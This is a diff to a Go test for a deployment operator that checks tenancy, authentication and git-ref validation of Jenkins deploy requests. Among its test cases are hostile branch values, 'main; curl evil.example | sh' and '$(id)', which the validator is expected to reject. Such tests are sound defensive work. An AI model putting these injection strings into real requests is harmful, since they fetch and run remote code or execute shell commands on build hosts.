@@ -57,7 +57,7 @@ func TestDeployRequestTenancy(t *testing.T) {
 	defer jenkins.Close()
 	c := env.Client
 	ctx := context.Background()
-	ns := "deploy-tenancy"
+	ns := envtest.Unique("deploy-tenancy")
 	create(t, c,
 		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}},
 		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "jenkins", Namespace: ns}, StringData: map[string]string{"credentials": `{"username": "ci", "token": "` + secretText + `"}`}},
@@ -183,7 +183,7 @@ func TestDeployRequestTenancy(t *testing.T) {
 		reason string
 	}{
 		"anonymous":   {ciShop, "", body("main", t0.Add(3*time.Second)), "unauthenticated DevOpsReconcile: no AMQP user_id"},
-		"other-team":  {ciOther, "ci-other", body("main", t0.Add(3*time.Second)), `unauthorised: broker user "ci-other" may not deploy JenkinsPipeline deploy-tenancy/shop-dev`},
+		"other-team":  {ciOther, "ci-other", body("main", t0.Add(3*time.Second)), `unauthorised: broker user "ci-other" may not deploy JenkinsPipeline ` + ns + `/shop-dev`},
 		"no-ns":       {ciShop, "ci-shop", `{"project": "shop", "environment": "dev", "requestedAt": "2026-01-01T00:00:00Z"}`, "namespace"},
 		"inject":      {ciShop, "ci-shop", body("main; curl evil.example | sh", t0.Add(3*time.Second)), "is not a git ref"},
 		"subst":       {ciShop, "ci-shop", body("$(id)", t0.Add(3*time.Second)), "is not a git ref"},
